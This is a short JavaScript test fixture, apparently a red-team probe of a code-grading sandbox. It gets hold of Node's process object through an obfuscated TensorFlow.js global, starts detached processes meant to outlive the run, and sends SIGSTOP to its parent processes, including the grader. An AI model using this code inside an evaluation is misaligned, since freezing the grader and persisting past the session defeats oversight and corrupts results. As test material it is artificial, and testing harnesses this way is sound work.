// @attack Sends SIGSTOP up its chain of parents (the grader, if it can see it), and starts detached processes meant to outlive the run (argv holds the batch's marker, $MARK). It signals its own ancestors alone, so that it harms nothing else even where the sandbox is missing.
// @prelude
const g = (tf as unknown as { ENV: { global: Record<string, any> } }).ENV.global;
const proc = g['pro' + 'cess'];
const cp = proc.getBuiltinModule('child_process');
try {
  const child = cp.spawn('sleep', ['$MARK'], { detached: true, stdio: 'ignore' });
  child.unref();
} catch {}
try { cp.spawn(proc.execPath, ['-e', 'setInterval(() => {}, 1000); /* $MARK */'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
const fs = proc.getBuiltinModule('fs');
let pid = proc.ppid;
for (let depth = 0; depth < 6 && pid > 1; depth++) {
  let parent = 0;
  try { parent = Number(fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')[1]); } catch {}
  try { proc.kill(pid, 'SIGSTOP'); } catch {}
  pid = parent;
}
// @body
throw new Error('stopped?');
